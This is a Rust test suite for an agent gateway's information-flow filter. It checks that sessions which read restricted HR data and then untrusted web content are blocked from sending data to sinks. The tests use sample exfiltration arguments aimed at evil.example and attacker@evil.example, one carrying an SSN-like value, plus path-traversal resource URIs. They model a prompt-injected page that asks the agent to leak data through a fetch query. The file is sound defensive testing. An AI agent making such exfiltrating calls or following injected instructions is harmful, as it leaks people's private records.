use std::collections::HashMap;

use super::*;
use crate::chain::notes::FindingNote;
use crate::engines::flow::MAX_SOURCES;
use crate::engines::identity::Principal;
use crate::protocol::jsonrpc::{parse, ParseLimits, Parsed};
use warden_config::access::ToolEntry;
use warden_config::flows::{Labels, Roles, DEFAULT_LEVELS};

/// The one message `body` holds, parsed.
fn envelope(body: &str) -> crate::protocol::jsonrpc::Envelope {
    match parse(body.as_bytes(), ParseLimits::default()).expect("parse") {
        Parsed::Single(env) => env,
        _ => panic!("one message"),
    }
}

fn flows(on_violation: OnViolation, track: Track) -> Flows {
    Flows {
        levels: DEFAULT_LEVELS.iter().map(|s| (*s).to_owned()).collect(),
        track,
        default_clearance: 1,
        dlp_level: 2,
        unlabelled: Roles {
            untrusted: true,
            ..Roles::default()
        },
        decide: Decide::Gateway,
        on_violation,
        approvers: 1,
    }
}

fn labels(level: Option<u8>, roles: Roles) -> Labels {
    Labels {
        classification: level,
        roles: Some(roles),
    }
}

fn catalog() -> HashMap<String, ServerCatalog> {
    let tool = |l: Labels| ToolEntry {
        labels: l,
        ..ToolEntry::default()
    };
    let hr = ServerCatalog {
        labels: labels(
            Some(3),
            Roles {
                private: true,
                ..Roles::default()
            },
        ),
        resources: vec![("hr://public/*".into(), labels(Some(0), Roles::default()))],
        ..ServerCatalog::default()
    };
    let web = ServerCatalog {
        tools: HashMap::from([
            (
                "fetch".to_owned(),
                tool(labels(
                    None,
                    Roles {
                        untrusted: true,
                        ..Roles::default()
                    },
                )),
            ),
            (
                "post".to_owned(),
                tool(labels(
                    Some(0),
                    Roles {
                        sink: true,
                        ..Roles::default()
                    },
                )),
            ),
            (
                "notes".to_owned(),
                tool(labels(
                    Some(2),
                    Roles {
                        sink: true,
                        ..Roles::default()
                    },
                )),
            ),
        ]),
        ..ServerCatalog::default()
    };
    HashMap::from([
        ("hr".to_owned(), hr),
        ("web".to_owned(), web),
        ("misc".to_owned(), ServerCatalog::default()),
    ])
}

struct Gw {
    req: FlowFilter,
    reply: FlowReplyFilter,
}

fn gateway(on_violation: OnViolation, track: Track) -> Gw {
    let tables = Arc::new(FlowTables::new(1000));
    let mk = || {
        FlowFilter::new(
            Some(&flows(on_violation, track)),
            Arc::new(catalog()),
            tables.clone(),
            DenialStyle::ToolError,
        )
        .expect("flows")
    };
    Gw {
        req: mk(),
        reply: FlowReplyFilter(Arc::new(mk())),
    }
}

fn principal(clearance: Option<&str>) -> Principal {
    let mut p = Principal::anonymous();
    p.id = "agent-7".into();
    p.tenant = "acme".into();
    p.auth = crate::engines::identity::AuthMethod::ApiKey;
    if let Some(c) = clearance {
        p.attributes.insert("clearance".into(), c.into());
    }
    p
}

/// Calls `server/tool` and, when it passes, replies with `reply_text`
/// (with a DLP finding when `finding`). Returns the refusal reason, or
/// the approval the call was held for.
fn call(
    gw: &Gw,
    p: &Principal,
    session: Option<&str>,
    server: &str,
    tool: &str,
    args: &str,
    finding: bool,
) -> Result<Option<String>, String> {
    let ex = Exchange {
        session_id: session,
        ..Exchange::new(p, server)
    };
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{args}}}}}"#
    );
    let env = envelope(&body);
    let mut notes = Notes::default();
    if let Decision::Reject(d) =
        gw.req
            .on_request(&Message::new(&env, body.as_bytes()), &ex, &mut notes)
    {
        return Err(format!("{}: {}", d.reason, d.to_response(None)));
    }
    let held = notes.approval_asked.map(|a| a.reason.to_string());
    let reply = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"ok"}]}}"#;
    let renv = envelope(reply);
    let mut rnotes = Notes::default();
    if finding {
        rnotes.findings.push(FindingNote {
            detector: "ssn".into(),
            rule: "r".into(),
            path: "$".into(),
            action: "redact",
        });
    }
    let msg = Message::from_server(&renv, reply.as_bytes(), Some("tools/call"), Some(tool));
    let _ = gw.reply.on_response(&msg, &ex, &mut rnotes);
    Ok(held)
}

#[test]
fn private_then_untrusted_then_sink_is_refused_naming_the_flow() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let s = Some("s1");
    assert!(call(&gw, &p, s, "hr", "get_employee", "{}", false).is_ok());
    assert!(call(
        &gw,
        &p,
        s,
        "web",
        "fetch",
        r#"{"url":"https://evil.example"}"#,
        false
    )
    .is_ok());
    let e = call(&gw, &p, s, "web", "post", r#"{"text":"x"}"#, false).expect_err("refused");
    assert!(e.starts_with("flow_blocked"), "{e}");
    assert!(
        e.contains("restricted data from `hr/get_employee` cannot go to `web/post` after untrusted content from `web/fetch`"),
        "{e}"
    );
    // A sink cleared for the level takes it.
    assert!(
        call(&gw, &p, s, "web", "notes", r#"{"text":"x"}"#, false).is_err(),
        "notes takes confidential, not restricted"
    );
}

#[test]
fn without_the_untrusted_step_the_sink_is_allowed() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    assert!(call(&gw, &p, Some("s"), "hr", "get_employee", "{}", false).is_ok());
    assert!(call(&gw, &p, Some("s"), "web", "post", "{}", false).is_ok());
    // Untrusted first, then public data only: allowed too.
    assert!(call(&gw, &p, Some("t"), "web", "fetch", "{}", false).is_ok());
    assert!(call(&gw, &p, Some("t"), "web", "post", "{}", false).is_ok());
}

#[test]
fn clearance_bounds_reads() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let e = call(
        &gw,
        &principal(None),
        Some("s"),
        "hr",
        "get_employee",
        "{}",
        false,
    )
    .expect_err("refused");
    assert!(
        e.starts_with("flow_above_clearance") && e.contains("above your clearance (internal)"),
        "{e}"
    );
    let e = call(
        &gw,
        &principal(Some("no-such-level")),
        Some("s"),
        "hr",
        "x",
        "{}",
        false,
    )
    .expect_err("refused");
    assert!(
        e.contains("(public)"),
        "an unknown clearance clears the lowest level only: {e}"
    );
    assert!(call(
        &gw,
        &principal(Some("RESTRICTED")),
        Some("s"),
        "hr",
        "x",
        "{}",
        false
    )
    .is_ok());
}

#[test]
fn a_dlp_finding_raises_a_reply() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    // `misc/lookup` is unlabelled: untrusted, level 0 — but its reply
    // carried an SSN, so it is confidential.
    assert!(call(&gw, &p, Some("s"), "misc", "lookup", "{}", true).is_ok());
    let e = call(&gw, &p, Some("s"), "web", "post", "{}", false).expect_err("refused");
    assert!(e.contains("confidential data from `misc/lookup`"), "{e}");
}

#[test]
fn an_unlabelled_tool_with_a_url_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    assert!(call(&gw, &p, Some("s"), "hr", "get", "{}", false).is_ok());
    assert!(call(&gw, &p, Some("s"), "web", "fetch", "{}", false).is_ok());
    let e = call(
        &gw,
        &p,
        Some("s"),
        "misc",
        "ping",
        r#"{"to":"https://x.example/?d=1"}"#,
        false,
    )
    .expect_err("refused");
    assert!(e.contains("`misc/ping`"), "{e}");
    assert!(call(
        &gw,
        &p,
        Some("s"),
        "misc",
        "ping",
        r#"{"to":"x.example"}"#,
        false
    )
    .is_ok());
}

#[test]
fn sessions_start_clean_unless_tracked_per_principal() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    call(&gw, &p, Some("a"), "hr", "get", "{}", false).expect("read");
    call(&gw, &p, Some("a"), "web", "fetch", "{}", false).expect("fetch");
    assert!(
        call(&gw, &p, Some("b"), "web", "post", "{}", false).is_ok(),
        "a new session starts clean"
    );
    // Another principal's session of the same id is its own.
    let mut q = principal(Some("restricted"));
    q.id = "other".into();
    assert!(call(&gw, &q, Some("a"), "web", "post", "{}", false).is_ok());

    let gw = gateway(OnViolation::Deny, Track::Principal);
    call(&gw, &p, Some("a"), "hr", "get", "{}", false).expect("read");
    call(&gw, &p, Some("a"), "web", "fetch", "{}", false).expect("fetch");
    assert!(
        call(&gw, &p, Some("b"), "web", "post", "{}", false).is_err(),
        "no laundering through a new session"
    );
    assert!(call(&gw, &p, None, "web", "post", "{}", false).is_err());
}

#[test]
fn a_violation_can_ask_for_an_approval_instead() {
    let gw = gateway(OnViolation::Approval, Track::Session);
    let p = principal(Some("restricted"));
    call(&gw, &p, Some("s"), "hr", "get", "{}", false).expect("read");
    call(&gw, &p, Some("s"), "web", "fetch", "{}", false).expect("fetch");
    let held = call(&gw, &p, Some("s"), "web", "post", "{}", false).expect("held, not refused");
    assert!(held.is_some_and(|r| r.contains("cannot go to `web/post`")));
}

#[test]
fn an_unreadable_state_refuses_sinks_only() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let down = Loaded::Unreadable("redis down".into());
    let body =
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"post","arguments":{}}}"#;
    let env = envelope(body);
    let ex = Exchange {
        session_id: Some("s"),
        flow: Some(&down),
        ..Exchange::new(&p, "web")
    };
    let d = gw.req.on_request(
        &Message::new(&env, body.as_bytes()),
        &ex,
        &mut Notes::default(),
    );
    assert!(
        matches!(d, Decision::Reject(ref x) if x.reason.starts_with("flow_state_unavailable: what this session has read"))
    );
    let ex = Exchange {
        session_id: Some("s"),
        flow: Some(&down),
        ..Exchange::new(&p, "hr")
    };
    let read = body.replace("post", "get");
    let env = envelope(&read);
    let d = gw.req.on_request(
        &Message::new(&env, read.as_bytes()),
        &ex,
        &mut Notes::default(),
    );
    assert!(matches!(d, Decision::Pass));
}

#[test]
fn states_only_grow_and_keep_their_explanation() {
    let mut st = FlowState::default();
    let src = |i: usize, level: u8, untrusted: bool| Source {
        id: format!("fl_{i}"),
        what: format!("s/t{i}"),
        level,
        untrusted,
    };
    assert!(st.raise(&src(0, 3, false)));
    assert!(st.raise(&src(1, 0, true)));
    for i in 2..100 {
        st.raise(&src(i, 1, false));
    }
    assert_eq!((st.level, st.untrusted), (3, true));
    assert!(st.sources.len() <= MAX_SOURCES);
    let (high, untrusted) = st.culprits();
    assert_eq!(high.map(|s| s.id.as_str()), Some("fl_0"));
    assert_eq!(untrusted.map(|s| s.id.as_str()), Some("fl_1"));
    let mut other = FlowState::default();
    other.merge(&st);
    assert_eq!(other.level, 3);
    assert!(!other.raise(&src(200, 2, false)), "lower adds nothing");
}

#[test]
fn resources_take_their_pattern_labels() {
    let f = flows(OnViolation::Deny, Track::Session);
    let c = catalog();
    let l = call_labels(
        &f,
        c.get("hr"),
        "hr",
        "resources/read",
        "hr://public/handbook",
        None,
    );
    assert_eq!((l.level, l.what.as_str()), (0, "hr:hr://public/handbook"));
    let l = call_labels(
        &f,
        c.get("hr"),
        "hr",
        "resources/read",
        "hr://employees/1",
        None,
    );
    assert_eq!(l.level, 3, "the server's label");
}

#[test]
fn names_a_server_may_read_otherwise_take_the_stricter_label() {
    let f = flows(OnViolation::Deny, Track::Session);
    let mut c = catalog();
    // A case variant of a sink is that sink.
    let l = call_labels(&f, c.get("web"), "web", "tools/call", "POST", None);
    assert!(l.roles.sink, "{l:?}");
    // A resource URI with dot segments or escapes may be another one:
    // the highest label of every pattern, and the server's.
    if let Some(hr) = c.get_mut("hr") {
        hr.labels = Labels::default();
        hr.resources
            .push(("hr://employees/*".into(), labels(Some(3), Roles::default())));
    }
    for uri in [
        "hr://public/../employees/1",
        "hr://public/%2e%2e/employees/1",
        "hr://public\\..\\employees\\1",
        "hr://PUBLIC/x",
    ] {
        let l = call_labels(&f, c.get("hr"), "hr", "resources/read", uri, None);
        assert_eq!(l.level, 3, "{uri}");
    }
    let l = call_labels(
        &f,
        c.get("hr"),
        "hr",
        "resources/read",
        "hr://public/handbook",
        None,
    );
    assert_eq!(l.level, 0);
}

#[test]
fn a_task_result_is_its_tools_output() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "hr")
    };
    let reply = r#"{"jsonrpc":"2.0","id":7,"result":{"content":[{"type":"text","text":"ssn"}]}}"#;
    let env = envelope(reply);
    let msg = Message::from_server(
        &env,
        reply.as_bytes(),
        Some("tasks/result"),
        Some("get_employee"),
    );
    let mut notes = Notes::default();
    let _ = gw.reply.on_response(&msg, &ex, &mut notes);
    assert_eq!(notes.flow_out.map(|o| o.source.level), Some(3));
}

#[test]
fn a_server_asking_the_model_brings_untrusted_content() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    call(&gw, &p, Some("s"), "hr", "get", "{}", false).expect("read");
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "misc")
    };
    let ask =
        r#"{"jsonrpc":"2.0","id":9,"method":"sampling/createMessage","params":{"messages":[]}}"#;
    let env = envelope(ask);
    let mut msg = Message::from_server(&env, ask.as_bytes(), None, None);
    msg.request_method = Some("sampling/createMessage");
    let _ = gw.reply.on_response(&msg, &ex, &mut Notes::default());
    let e = call(&gw, &p, Some("s"), "web", "post", "{}", false).expect_err("refused");
    assert!(
        e.contains("after untrusted content from `misc (sampling/createMessage)`"),
        "{e}"
    );
}

#[test]
fn anonymous_callers_without_a_session_are_kept_apart_by_address() {
    let f = flows(OnViolation::Deny, Track::Session);
    let p = Principal::anonymous();
    let a = Exchange {
        source_ip: "192.0.2.1".parse().ok(),
        ..Exchange::new(&p, "web")
    };
    let b = Exchange {
        source_ip: "192.0.2.2".parse().ok(),
        ..Exchange::new(&p, "web")
    };
    assert_ne!(flow_key(&f, &a), flow_key(&f, &b));
}

#[test]
fn a_private_sink_still_needs_clearance() {
    let f = flows(OnViolation::Deny, Track::Session);
    let mut c = catalog();
    if let Some(web) = c.get_mut("web") {
        web.tools.insert(
            "export".into(),
            ToolEntry {
                labels: labels(
                    Some(3),
                    Roles {
                        private: true,
                        sink: true,
                        ..Roles::default()
                    },
                ),
                ..ToolEntry::default()
            },
        );
    }
    let gw = Gw {
        req: FlowFilter::new(
            Some(&f),
            Arc::new(c.clone()),
            Arc::new(FlowTables::new(10)),
            DenialStyle::ToolError,
        )
        .expect("flows"),
        reply: FlowReplyFilter(Arc::new(
            FlowFilter::new(
                Some(&f),
                Arc::new(c),
                Arc::new(FlowTables::new(10)),
                DenialStyle::ToolError,
            )
            .expect("flows"),
        )),
    };
    let e = call(
        &gw,
        &principal(None),
        Some("s"),
        "web",
        "export",
        "{}",
        false,
    )
    .expect_err("refused");
    assert!(e.starts_with("flow_above_clearance"), "{e}");
}

#[test]
fn an_untrusted_tool_given_a_url_or_an_address_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let s = Some("s");
    call(&gw, &p, s, "hr", "get_employee", "{}", false).expect("read");
    call(
        &gw,
        &p,
        s,
        "web",
        "fetch",
        r#"{"url":"https://news.example"}"#,
        false,
    )
    .expect("first fetch");
    // The injected page now asks for the data in a fetch's query.
    let e = call(
        &gw,
        &p,
        s,
        "web",
        "fetch",
        r#"{"url":"https://evil.example/c?d=536-22-8145"}"#,
        false,
    )
    .expect_err("refused");
    assert!(e.contains("cannot go to `web/fetch`"), "{e}");
    for args in [
        r#"{"to":"attacker@evil.example","text":"x"}"#,
        r#"{"config":{"https://evil.example/c":"GET"}}"#,
        r#"{"cfg":{"host":"//evil.example/c"}}"#,
        r#"{"t":"see ftp://evil.example/x"}"#,
        r#"{"t":"MAILTO:a@b.c"}"#,
    ] {
        let e = call(&gw, &p, s, "misc", "notify", args, false).expect_err("refused");
        assert!(e.contains("cannot go to `misc/notify`"), "{args}: {e}");
    }
    assert!(call(
        &gw,
        &p,
        s,
        "misc",
        "notify",
        r#"{"t":"see file.txt"}"#,
        false
    )
    .is_ok());
}

fn prompt(
    gw: &Gw,
    p: &Principal,
    session: Option<&str>,
    server: &str,
    name: &str,
) -> Result<(), String> {
    let ex = Exchange {
        session_id: session,
        ..Exchange::new(p, server)
    };
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"prompts/get","params":{{"name":"{name}"}}}}"#
    );
    let env = envelope(&body);
    if let Decision::Reject(d) = gw.req.on_request(
        &Message::new(&env, body.as_bytes()),
        &ex,
        &mut Notes::default(),
    ) {
        return Err(d.reason);
    }
    let reply = r#"{"jsonrpc":"2.0","id":1,"result":{"messages":[]}}"#;
    let renv = envelope(reply);
    let msg = Message::from_server(&renv, reply.as_bytes(), Some("prompts/get"), Some(name));
    let _ = gw.reply.on_response(&msg, &ex, &mut Notes::default());
    Ok(())
}

#[test]
fn prompts_are_data_too() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    // The hr server's prompts carry its classification: above clearance.
    assert_eq!(
        prompt(&gw, &principal(None), Some("s"), "hr", "brief"),
        Err("flow_above_clearance: restricted data from `hr (prompts/get brief)` is above your clearance (internal)".into())
    );
    // An unlabelled server's prompt is untrusted content.
    let p = principal(Some("restricted"));
    call(&gw, &p, Some("s"), "hr", "get_employee", "{}", false).expect("read");
    prompt(&gw, &p, Some("s"), "misc", "news").expect("served");
    let e = call(&gw, &p, Some("s"), "web", "post", "{}", false).expect_err("refused");
    assert!(
        e.contains("after untrusted content from `misc (prompts/get news)`"),
        "{e}"
    );
}

#[test]
fn policy_mode_still_refuses_sinks_it_cannot_see_the_flow_of() {
    let tables = Arc::new(FlowTables::new(100));
    let mut f = flows(OnViolation::Deny, Track::Session);
    f.decide = Decide::Policy;
    let filter = FlowFilter::new(
        Some(&f),
        Arc::new(catalog()),
        tables,
        DenialStyle::ToolError,
    )
    .expect("flows");
    let p = principal(Some("restricted"));
    let down = Loaded::Unreadable("redis down".into());
    let body =
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"post","arguments":{}}}"#;
    let env = envelope(body);
    let ex = Exchange {
        session_id: Some("s"),
        flow: Some(&down),
        ..Exchange::new(&p, "web")
    };
    let mut notes = Notes::default();
    let d = filter.on_request(&Message::new(&env, body.as_bytes()), &ex, &mut notes);
    assert!(
        matches!(d, Decision::Reject(ref x) if x.reason.starts_with("flow_state_unavailable: what this session has read"))
    );
}

#[test]
fn a_clients_answer_to_a_server_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"role":"assistant","content":{"type":"text","text":"x"}}}"#;
    let env = envelope(answer);
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "web")
    };
    let judge = || {
        gw.req.on_request(
            &Message::new(&env, answer.as_bytes()),
            &ex,
            &mut Notes::default(),
        )
    };
    assert!(matches!(judge(), Decision::Pass), "a clean flow answers");
    call(&gw, &p, Some("s"), "hr", "get_employee", "{}", false).expect("read");
    call(&gw, &p, Some("s"), "web", "fetch", "{}", false).expect("fetch");
    match judge() {
        Decision::Reject(d) => assert!(
            d.reason
                .contains("cannot go to `web (an answer to its request)`"),
            "{}",
            d.reason
        ),
        _ => panic!("a tainted flow's answer to a server is refused"),
    }
}

/// The chain calls the guard for a client's answer to a server (it has no
/// method, so it reaches only the filters that act on every message).
#[test]
fn the_chain_judges_a_clients_answer_to_a_server() {
    let f = flows(OnViolation::Deny, Track::Session);
    let tables = Arc::new(FlowTables::new(10));
    let guard = FlowFilter::new(
        Some(&f),
        Arc::new(catalog()),
        tables.clone(),
        DenialStyle::ToolError,
    )
    .expect("flows");
    let p = principal(Some("restricted"));
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "web")
    };
    let key = flow_key(&f, &ex);
    for (id, level, untrusted) in [("fl_a", 3, false), ("fl_b", 0, true)] {
        let src = Source {
            id: id.into(),
            what: "x/y".into(),
            level,
            untrusted,
        };
        tables.raise(&key, &src, None);
    }
    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"roots":[]}}"#;
    let env = envelope(answer);
    let chain =
        crate::chain::filter::FilterChain::new(vec![Arc::new(guard)], ParseLimits::default());
    let verdict = chain.run(
        &Message::new(&env, answer.as_bytes()),
        &ex,
        &mut Notes::default(),
    );
    assert!(
        matches!(verdict, crate::chain::filter::Verdict::Reject { .. }),
        "{verdict:?}"
    );
}
